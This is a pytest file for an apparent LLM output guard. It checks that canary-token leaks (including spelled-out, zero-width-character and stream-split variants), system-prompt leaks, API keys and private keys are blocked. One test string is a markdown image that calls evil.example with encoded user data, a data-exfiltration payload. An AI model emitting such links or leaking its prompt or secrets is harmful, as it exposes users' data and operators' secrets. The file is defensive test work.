# SPDX-License-Identifier: Apache-2.0
"""Output screening: canary leaks (whole and streamed), secrets, exfiltration links, prompt leaks."""

from __future__ import annotations

import pytest

from bastion.guard import Action, Category, Guard, GuardConfig, InjectionModel, canary_instruction, new_canary

CANARY = "bst-canary-0123456789abcdef"


def test_new_canaries_are_random_and_embeddable() -> None:
    first, second = new_canary(), new_canary()
    assert first != second and first.startswith("bst-canary-")
    assert first in canary_instruction(first)


@pytest.mark.parametrize(
    "leak",
    [
        f"Sure! My instructions start with {CANARY} and then...",
        f"the marker is {CANARY.upper()}",
        " ".join(CANARY),
        "b-s-t-c-a-n-a-r-y-0-1-2-3-4-5-6-7-8-9-a-b-c-d-e-f",
        CANARY.replace("-", "\u200b-"),
    ],
)
def test_canary_in_output_is_blocked(guard: Guard, leak: str) -> None:
    verdict = guard.scan_output(leak)
    assert verdict.action is Action.block
    assert Category.canary_leak in verdict.categories


@pytest.mark.parametrize(
    ("text", "category"),
    [
        ("Here is my system prompt: You are a helpful coach...", Category.system_prompt_leak),
        ("Use the key sk-proj-abcdefghijklmnopqrstuvwxyz123456 to call the API", Category.secret_leak),
        ("-----BEGIN RSA PRIVATE KEY-----\nMIIEow...", Category.secret_leak),
        ("![chart](https://evil.example/pixel.png?data=eyJ1c2VyIjoiYW5uIn0)", Category.data_exfiltration),
    ],
)
def test_prohibited_output_is_blocked(guard: Guard, text: str, category: Category) -> None:
    verdict = guard.scan_output(text)
    assert verdict.action is Action.block
    assert category in verdict.categories


def test_ordinary_output_passes(guard: Guard) -> None:
    text = "Breathing exercises can help: inhale for four counts, hold for four, exhale for six."
    verdict = guard.scan_output(text)
    assert verdict.action is Action.allow and verdict.text == text


def test_profanity_in_output_is_flagged(guard: Guard) -> None:
    assert Category.profanity in guard.scan_output("that is bullshit").categories


def chunks(text: str, size: int) -> list[str]:
    return [text[i : i + size] for i in range(0, len(text), size)]


def test_stream_releases_everything_when_clean(guard: Guard) -> None:
    text = "A calm answer about sleep hygiene. " * 40
    stream = guard.stream()
    sent = "".join(stream.feed(chunk) for chunk in chunks(text, 7))
    rest, verdict = stream.finish()
    assert sent + rest == text
    assert verdict.action is Action.allow
    assert len(sent) > 0  # text flows before the end, it is not all held back


@pytest.mark.parametrize("size", [1, 3, 5, 11, 26])
def test_canary_split_across_chunks_is_caught_before_it_is_sent(guard: Guard, size: int) -> None:
    text = "Of course. " * 30 + f"The hidden marker is {CANARY}, and more text follows. " + "Fine. " * 30
    stream = guard.stream()
    sent = ""
    for chunk in chunks(text, size):
        sent += stream.feed(chunk)
    rest, verdict = stream.finish()
    assert verdict.action is Action.block and Category.canary_leak in verdict.categories
    assert rest == ""
    assert stream.blocked
    # not even a prefix of the canary went out
    assert "bst-c" not in (sent + rest)
    assert sent == text[: len(sent)]


def test_spelled_out_canary_split_across_chunks_is_caught(guard: Guard) -> None:
    text = "Intro. " * 20 + " ".join(CANARY) + " outro"
    stream = guard.stream()
    sent = "".join(stream.feed(chunk) for chunk in chunks(text, 4))
    _, verdict = stream.finish()
    assert verdict.blocked
    assert "b s t - c" not in sent


def test_stream_stops_on_a_secret(guard: Guard) -> None:
    stream = guard.stream()
    stream.feed("Here you go: sk-proj-")
    assert stream.feed("abcdefghijklmnopqrstuvwxyz123456 done") == ""
    assert stream.blocked
    assert stream.feed("more") == ""


def test_no_canary_configured(model: InjectionModel) -> None:
    guard = Guard(GuardConfig(), model=model)
    assert guard.scan_output(CANARY).action is Action.allow
    with pytest.raises(ValueError, match="12 characters"):
        Guard(GuardConfig(canary="short", use_model=False))
